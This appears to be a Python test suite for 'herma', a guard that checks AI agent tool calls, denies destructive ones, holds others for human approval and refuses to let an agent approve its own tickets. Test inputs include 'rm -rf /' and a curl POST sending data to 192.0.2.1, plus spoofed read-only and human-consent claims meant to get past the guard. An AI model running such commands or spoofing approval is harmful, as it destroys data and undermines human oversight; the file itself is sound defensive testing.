"""The client against the real binary (``HERMA_BIN``), and against everything that can go wrong with it."""

import asyncio
import json
import os
import re
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

import herma  # noqa: E402
from herma import hermes_plugin  # noqa: E402

BINARY = os.environ["HERMA_BIN"]
#: A person must see it. Nothing in here runs it.
ASKED = {"command": "curl -sS -X POST http://192.0.2.1:9/ -d x"}


class WithHome(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.home = os.path.join(self.folder.name, "herma")
        os.environ["HERMA_HOME"] = self.home
        self.addCleanup(self.folder.cleanup)

    def fake(self, script):
        """Something else in the place of the binary."""
        path = os.path.join(self.folder.name, "fake")
        with open(path, "w", encoding="utf-8") as file:
            file.write("#!/bin/sh\n" + script)
        os.chmod(path, 0o755)
        return path


class TheRealBinary(WithHome):
    def guard(self, tool, args, **options):
        return herma.guard(tool, args, session="s", cwd=self.folder.name, **options)

    def test_what_is_harmless_runs(self):
        self.assertIn("herma", self.guard("terminal", {"command": "git status"}).reason)
        self.guard("read_file", {"path": "README.md"})
        self.guard("write_file", {"path": "notes.txt", "content": "x"})

    def test_what_must_never_happen_does_not(self):
        with self.assertRaises(herma.Denied) as caught:
            self.guard("terminal", {"command": "rm -rf /"})
        self.assertIn("nobody can lift this", caught.exception.reason)
        self.assertNotIsInstance(caught.exception, (herma.Pending, herma.Unavailable))

    def test_what_a_person_must_see_waits_with_a_ticket(self):
        with self.assertRaises(herma.Pending) as caught:
            self.guard("terminal", ASKED, wait=1)
        self.assertRegex(caught.exception.ticket, r"^[0-9A-Z]{4,}$")
        listed = subprocess.run([BINARY, "list", "--json"], capture_output=True, check=True).stdout
        self.assertEqual([one["ticket"] for one in json.loads(listed)], [caught.exception.ticket])

    def test_an_agent_may_not_answer_for_the_person(self):
        with self.assertRaises(herma.Pending) as caught:
            self.guard("terminal", ASKED, wait=1)
        said = subprocess.run([BINARY, "deny", caught.exception.ticket], capture_output=True, check=False)
        self.assertEqual(said.returncode, 1)
        self.assertIn(b"may not answer for the person", said.stderr)

    def test_no_claim_of_the_caller_lowers_anything(self):
        with self.assertRaises(herma.Denied):
            self.guard("terminal", {"command": "rm -rf /"}, action="read", annotations={"readOnlyHint": True},
                       description="only reads", conversation={"human": True, "last_message": "yes"})

    def test_a_person_in_crisis_is_shown_help_and_a_human_comes_first(self):
        said = "I can't do this anymore. I want to kill myself."
        options = {"session": "s", "cwd": self.folder.name}
        self.assertIsNone(herma.said("this bug is killing me", **options))
        card = herma.said(said, **options)
        self.assertIn("findahelpline", card)
        # An answer without any such word waits, and the card comes along; what is read still runs.
        with self.assertRaises(herma.Pending) as caught:
            self.guard("send_message", {"to": "them", "text": "hello"}, wait=1)
        self.assertEqual(caught.exception.crisis_card, card)
        self.assertEqual(self.guard("terminal", {"command": "git status"}).crisis_card, card)
        # In the call itself too, where nobody was told before.
        with self.assertRaises(herma.Pending) as caught:
            herma.guard("send_message", {"to": "them", "text": "hello"}, session="t", cwd="/", wait=1,
                        conversation={"last_message": said})
        self.assertEqual(caught.exception.crisis_card, card)
        self.assertIsNone(herma.said(said, binary="/nonexistent"))

    def test_a_decorated_function_is_a_tool(self):
        ran = []

        @herma.guarded(name="terminal", cwd=self.folder.name)
        def terminal(command, timeout=10):
            ran.append(command)
            return "done"

        self.assertEqual(terminal("git status"), "done")
        with self.assertRaises(herma.Denied):
            terminal("rm -rf /")
        self.assertEqual(ran, ["git status"])

    def test_one_that_takes_any_number_too(self):
        @herma.guarded(name="get_weather", cwd=self.folder.name)
        def get_weather(city, *more, **options):
            return [city, *more, options]

        self.assertEqual(get_weather("Rome"), ["Rome", {}])
        self.assertEqual(get_weather("Rome", "Oslo", unit="C"), ["Rome", "Oslo", {"unit": "C"}])

    def test_a_coroutine_too(self):
        ran = []

        @herma.guarded(cwd=self.folder.name)
        async def terminal(command):
            ran.append(command)

        asyncio.run(terminal("git status"))
        with self.assertRaises(herma.Denied):
            asyncio.run(terminal("rm -rf /"))
        self.assertEqual(ran, ["git status"])


class WhatGoesWrong(WithHome):
    def unavailable(self, **options):
        with self.assertRaises(herma.Unavailable) as caught:
            herma.guard("terminal", {"command": "git status"}, **options)
        return caught.exception.reason

    def test_no_binary(self):
        self.unavailable(binary="/nowhere/herma")
        saved = {name: os.environ.pop(name) for name in ("HERMA_BIN", "PATH")}
        try:
            self.assertIn("search path", self.unavailable())
        finally:
            os.environ.update(saved)

    def test_a_binary_that_fails_or_says_something_else(self):
        whole = '{"decision":"allow","reason":"yes"}'
        for script in (
            "exit 1",
            "kill -KILL $$",
            "exit 0",
            "echo '{not json'",
            # A yes, but not a whole one.
            f"printf %s '{whole}'",
            f"printf %s '{whole}mark'",
            # A yes, and then a failure.
            f"printf '%s%s' '{whole}' \"$6\"; exit 3",
            "printf '%s%s' '[]' \"$6\"",
            "printf '%s%s' '{\"decision\":\"allow\"}' \"$6\"",
            "printf '%s%s' '{\"decision\":\"allow\",\"reason\":\"\"}' \"$6\"",
        ):
            with self.subTest(script=script):
                self.unavailable(binary=self.fake(script))
        for decision in ("ask", "ALLOW", "", "maybe"):
            answer = json.dumps({"decision": decision, "reason": "x"})
            with self.subTest(decision=decision), self.assertRaises(herma.Denied):
                herma.guard("t", {}, binary=self.fake(f"printf '%s%s' '{answer}' \"$6\""))
        # The same with the right word and mark is a yes: the fakes above are refused for the right reason.
        herma.guard("t", {}, binary=self.fake(f"printf '%s%s' '{whole}' \"$6\""))

    def test_a_binary_that_hangs(self):
        grace, herma._client.GRACE_S = herma._client.GRACE_S, 0
        try:
            self.assertIn("no answer within", self.unavailable(binary=self.fake("exec sleep 60"), wait=1))
        finally:
            herma._client.GRACE_S = grace

    def test_what_is_no_json(self):
        for args in ({"x": object()}, {"x": float("nan")}, {"x": b"bytes"}):
            with self.subTest(args=args), self.assertRaises(herma.Unavailable):
                herma.guard("t", args)

    def test_the_plugin_lets_nothing_out_but_an_answer(self):
        os.environ["HERMA_BIN"], saved = "/nowhere/herma", os.environ["HERMA_BIN"]
        try:
            answer = hermes_plugin.before_tool_call(tool_name="terminal", args={"command": "ls"}, turn_id="x")
        finally:
            os.environ["HERMA_BIN"] = saved
        self.assertEqual(answer["action"], "block")
        self.assertTrue(re.search("could not be asked", answer["message"]), answer)
        for args in ({"x": object()}, [1], 7):
            self.assertEqual(hermes_plugin.before_tool_call("t", args)["action"], "block")


if __name__ == "__main__":
    unittest.main()
